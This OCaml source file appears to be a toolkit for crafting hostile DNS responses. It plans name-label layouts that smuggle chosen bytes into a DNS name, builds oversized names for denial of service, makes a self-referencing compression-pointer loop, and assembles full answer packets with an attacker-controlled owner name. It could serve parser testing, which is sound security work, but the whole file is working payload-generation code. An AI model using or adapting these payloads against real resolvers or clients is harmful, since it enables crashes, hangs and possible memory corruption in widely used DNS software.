type byte_spec = Fixed of char | Any

let spec_fixed s = Array.init (String.length s) (fun i -> Fixed s.[i])
let spec_any n = Array.make n Any
let spec_concat specs = Array.concat specs

let default_fill = '\xAA' (* the paper's garbage byte *)

let realize spec =
  String.init (Array.length spec) (fun i ->
      match spec.(i) with Fixed c -> c | Any -> default_fill)

(* Dynamic programme over boundary positions.  [next.(p)] records the label
   length chosen at boundary [p] on some feasible path to the end. *)
let plan_labels ?(label_max = 191) spec =
  if label_max < 1 || label_max > 191 then
    invalid_arg "Craft.plan_labels: label_max must be in [1, 191]";
  let n = Array.length spec in
  if n = 0 then Ok "\x00"
  else begin
    let next = Array.make (n + 1) (-1) in
    let feasible = Array.make (n + 1) false in
    feasible.(n) <- true;
    let lengths_at p =
      (* A boundary byte is the label length: its value is forced when the
         spec fixes that byte. *)
      match spec.(p) with
      | Fixed c ->
          let l = Char.code c in
          if l >= 1 && l <= label_max then [ l ] else []
      | Any ->
          (* Prefer long labels: fewer forced bytes downstream. *)
          List.init label_max (fun i -> label_max - i)
    in
    for p = n - 1 downto 0 do
      let rec try_lengths = function
        | [] -> ()
        | l :: rest ->
            if p + 1 + l <= n && feasible.(p + 1 + l) then begin
              feasible.(p) <- true;
              next.(p) <- l
            end
            else try_lengths rest
      in
      try_lengths (lengths_at p)
    done;
    if not feasible.(0) then
      Error
        "no label layout: a run of fixed bytes leaves no room for a length \
         byte"
    else begin
      let out = Bytes.create (n + 1) in
      Array.iteri
        (fun i b ->
          Bytes.set out i (match b with Fixed c -> c | Any -> default_fill))
        spec;
      let rec place p =
        if p < n then begin
          let l = next.(p) in
          Bytes.set out p (Char.chr l);
          place (p + 1 + l)
        end
      in
      place 0;
      Bytes.set out n '\x00';
      Ok (Bytes.to_string out)
    end
  end

(* [size / 64 + 1] labels of 63 'A's (none for a negative size), then
   the root: one buffer, handed out as the string. *)
let dos_name ~size =
  let labels = if size < 0 then 0 else (size / 64) + 1 in
  let b = Bytes.make ((64 * labels) + 1) 'A' in
  for l = 0 to labels - 1 do
    Bytes.set b (64 * l) '\x3F'
  done;
  Bytes.set b (64 * labels) '\x00';
  Bytes.unsafe_to_string b

(* The name [hostile_response] replaces with a compression pointer to
   itself, i.e. to its own offset in the answer record.  Recognised by
   physical equality, so no caller's name can stand for it. *)
let pointer_loop_placeholder = "\xC0\xFF"

let pointer_loop_name () = pointer_loop_placeholder

let set_u16 b pos v =
  Bytes.set b pos (Char.unsafe_chr ((v lsr 8) land 0xFF));
  Bytes.set b (pos + 1) (Char.unsafe_chr (v land 0xFF))

(* The wire is written straight into one buffer sized from the question
   name, the answer name and the rdata, and handed out as the string. *)
let hostile_response ~query ?(ttl = 300) ?(rdata = "\x7F\x00\x00\x01") ~raw_name () =
  let q =
    match query.Packet.questions with
    | q :: _ -> q
    | [] -> invalid_arg "Craft.hostile_response: query has no question"
  in
  let qname_size = Name.encoded_size q.Packet.qname in
  (* Header (12), question name, qtype and class (4). *)
  let name_off = 12 + qname_size + 4 in
  let self_loop = raw_name == pointer_loop_placeholder in
  let name_size = if self_loop then 2 else String.length raw_name in
  let rdata_off = name_off + name_size + 10 in
  let b = Bytes.create (rdata_off + String.length rdata) in
  let h = query.Packet.header in
  set_u16 b 0 h.Packet.id;
  (* QR=1, opcode echoed, RD echoed, RA=1, rcode 0. *)
  set_u16 b 2
    ((1 lsl 15)
    lor ((h.Packet.opcode land 0xF) lsl 11)
    lor ((if h.Packet.rd then 1 else 0) lsl 8)
    lor (1 lsl 7));
  set_u16 b 4 1 (* qdcount *);
  set_u16 b 6 1 (* ancount *);
  set_u16 b 8 0;
  set_u16 b 10 0;
  Name.write_encoded b 12 q.Packet.qname;
  set_u16 b (12 + qname_size) (Packet.qtype_code q.Packet.qtype);
  set_u16 b (14 + qname_size) 1;
  (* Answer record: attacker-controlled owner name. *)
  if self_loop then set_u16 b name_off (0xC000 lor (name_off land 0x3FFF))
  else Bytes.blit_string raw_name 0 b name_off name_size;
  let rr = name_off + name_size in
  set_u16 b rr (Packet.qtype_code Packet.A);
  set_u16 b (rr + 2) 1;
  set_u16 b (rr + 4) ((ttl lsr 16) land 0xFFFF);
  set_u16 b (rr + 6) (ttl land 0xFFFF);
  set_u16 b (rr + 8) (String.length rdata);
  Bytes.blit_string rdata 0 b rdata_off (String.length rdata);
  Bytes.unsafe_to_string b
